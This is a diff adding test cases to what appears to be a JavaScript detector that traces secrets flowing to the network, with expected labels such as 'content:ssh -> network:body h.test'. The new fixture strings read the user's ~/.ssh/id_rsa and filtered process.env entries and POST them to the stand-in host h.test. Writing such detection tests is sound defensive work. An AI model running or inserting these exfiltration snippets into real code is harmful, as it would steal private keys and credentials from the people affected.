@@ -102,6 +102,16 @@ describe('what leaves', () => {
       `${KEY} -> network:body h.test`,
     ],
     [
+      'imports left out',
+      "const k = readFileSync(join(homedir(), '.ssh/id_rsa')); fetch('https://h.test', { method: 'POST', body: k })",
+      'content:ssh -> network:body h.test',
+    ],
+    [
+      'entries of the environment, chosen and joined',
+      "fetch('https://h.test', { method: 'POST', body: Object.entries(process.env).filter(([k]) => /X/.test(k)).map(([k, v]) => `${k}=${v}`).join(';') })",
+      'env:* -> network:body h.test',
+    ],
+    [
       'destructured',
       'const { API_KEY: k } = process.env; fetch(`https://h.test/?k=${k}`)',
       `${KEY} -> network:url h.test`,
